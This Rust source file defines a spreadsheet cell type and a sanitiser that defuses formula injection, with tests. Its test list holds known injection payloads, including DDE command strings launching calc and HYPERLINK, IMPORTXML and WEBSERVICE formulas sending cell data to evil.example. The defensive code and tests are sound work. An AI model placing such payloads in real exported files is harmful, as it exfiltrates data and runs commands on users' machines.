//! One value of a row, and how text is made safe for spreadsheet programs.

use std::borrow::Cow;

/// One value of a row.
#[derive(Clone, Debug, Default, PartialEq)]
pub enum Cell {
    /// Not known.
    #[default]
    Empty,
    /// Words; never read as a formula, see [`defuse`].
    Text(String),
    /// A whole number.
    Int(i64),
    /// A number with decimals.
    Real(f64),
    /// Yes or no.
    Flag(bool),
}

impl Cell {
    /// The value as text, as it was read; `None` where nothing is known.
    pub fn plain(&self) -> Option<Cow<'_, str>> {
        Some(match self {
            Cell::Empty => return None,
            Cell::Text(s) => Cow::Borrowed(s),
            Cell::Int(n) => Cow::Owned(n.to_string()),
            Cell::Real(x) => Cow::Owned(real(*x)),
            Cell::Flag(b) => Cow::Borrowed(if *b { "true" } else { "false" }),
        })
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        if s.is_empty() { Cell::Empty } else { Cell::Text(tidy(s)) }
    }
}
impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        s.to_owned().into()
    }
}
impl From<&String> for Cell {
    fn from(s: &String) -> Self {
        s.clone().into()
    }
}
impl From<i64> for Cell {
    fn from(n: i64) -> Self {
        Cell::Int(n)
    }
}
impl From<u32> for Cell {
    fn from(n: u32) -> Self {
        Cell::Int(n.into())
    }
}
impl From<usize> for Cell {
    fn from(n: usize) -> Self {
        Cell::Int(i64::try_from(n).unwrap_or(i64::MAX))
    }
}
impl From<f64> for Cell {
    fn from(x: f64) -> Self {
        if x.is_finite() { Cell::Real(x) } else { Cell::Empty }
    }
}
impl From<bool> for Cell {
    fn from(b: bool) -> Self {
        Cell::Flag(b)
    }
}
impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(x: Option<T>) -> Self {
        x.map_or(Cell::Empty, Into::into)
    }
}

/// A number with at most four decimals, as the dossier has them.
pub fn real(x: f64) -> String {
    // Adding zero turns -0.0 into 0.0.
    let s = format!("{:.4}", (x * 1e4).round() / 1e4 + 0.0);
    s.trim_end_matches('0').trim_end_matches('.').to_owned()
}

/// Text on one line: tabs and line ends become blanks, other control characters, which no spreadsheet file may hold, go.
fn tidy(s: String) -> String {
    if !s.chars().any(char::is_control) {
        return s;
    }
    let lined = |c: char| matches!(c, '\t' | '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{85}');
    s.chars().map(|c| if lined(c) { ' ' } else { c }).filter(|c| !c.is_control()).collect()
}

/// What spreadsheet programs take for the beginning of a formula: the four signs, their full-width forms, which some fold to
/// them, and the small and superscript ones.
fn starts_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+'
            | '-'
            | '@'
            | '＝'
            | '＋'
            | '－'
            | '＠'
            | '﹦'
            | '﹢'
            | '﹣'
            | '﹫'
            | '⁼'
            | '⁺'
            | '⁻'
            | '₌'
            | '₊'
            | '₋'
            | '−'
    )
}

/// What such a program may pass over before it: blanks, and marks nobody sees.
fn unseen(c: char) -> bool {
    c.is_whitespace()
        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

/// Text that no spreadsheet program takes for a formula.
///
/// Where the text, or a part of it after a semicolon (which is a separator in half the world, whatever stands in quotation
/// marks), would begin a formula, an apostrophe is put before it: `=1+1` becomes `'=1+1`. Apostrophes that already stand there
/// count as part of what is kept, so [`undefuse`] gives back the text exactly.
pub fn defuse(s: &str) -> Cow<'_, str> {
    let mut at = Vec::new();
    each_start(s, |i, _| at.push(i));
    if at.is_empty() {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + at.len());
    let mut from = 0;
    for i in at {
        out.push_str(&s[from..i]);
        out.push('\'');
        from = i;
    }
    out.push_str(&s[from..]);
    Cow::Owned(out)
}

/// The text that [`defuse`] made safe.
pub fn undefuse(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut from = 0;
    each_start(s, |i, marks| {
        if marks > 0 {
            out.push_str(&s[from..i]);
            from = i + 1;
        }
    });
    out.push_str(&s[from..]);
    out
}

/// Calls `found` with where a formula or the apostrophes before it begin, and with how many apostrophes these are.
fn each_start(s: &str, mut found: impl FnMut(usize, usize)) {
    let starts = std::iter::once(0).chain(s.match_indices(';').map(|(i, _)| i + 1));
    for start in starts {
        let rest = s[start..].trim_start_matches(unseen);
        let kept = rest.trim_start_matches('\'');
        // Blanks between apostrophes and sign would let the sign begin a cell of its own once the apostrophe is gone.
        if kept.trim_start_matches(unseen).starts_with(starts_formula) {
            found(s.len() - rest.len(), rest.len() - kept.len());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// As they stand in reports on this kind of attack, and in other dress.
    const PAYLOADS: [&str; 22] = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1&A2,\"Error: click\")",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
        "=WEBSERVICE(\"http://evil.example/\"&A1)",
        "+cmd|' /C notepad'!'A1'",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "  =1+1",
        "\u{feff}=1+1",
        "\u{a0}=1+1",
        "\u{200b}\u{2060}@A1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "﹦1",
        "−1",
        "'=1+1",
        "''=1+1",
        "harmless; =cmd|' /C calc'!A0",
        "a;b;'=x;=y",
        "' =1+1",
    ];

    #[test]
    fn no_payload_begins_a_cell_and_all_are_read_back() {
        for p in PAYLOADS {
            let safe = defuse(p);
            for part in safe.split(';') {
                assert!(!part.trim_start_matches(unseen).starts_with(starts_formula), "{p} → {safe}");
            }
            assert_ne!(safe, p);
            assert_eq!(undefuse(&safe), p);
        }
    }

    #[test]
    fn tabs_and_line_ends_cannot_begin_a_cell() {
        for p in ["\t=1+1", "\r=1+1", "\n=1+1", "a\n=1+1", "a\t=1+1", "\0=1"] {
            let Cell::Text(t) = Cell::from(p) else { panic!() };
            assert!(!t.chars().any(char::is_control), "{t:?}");
            assert!(!defuse(&t).trim_start().starts_with('='));
        }
    }

    #[test]
    fn plain_words_stay_as_they_are() {
        for p in ["", "Idlib", "d'abord", "'Adra", "12 - 13", "a = b", "«\u{a0}= x", "x; y", "l’armée ; l'autre"] {
            assert_eq!(defuse(p), p);
            assert_eq!(undefuse(p), p);
        }
    }

    #[test]
    fn numbers_have_four_decimals_at_most() {
        assert_eq!(real(35.93), "35.93");
        assert_eq!(real(36.0), "36");
        assert_eq!(real(-0.000_01), "0");
        assert_eq!(real(-0.5), "-0.5");
        assert_eq!(Cell::from(f64::NAN), Cell::Empty);
    }
}
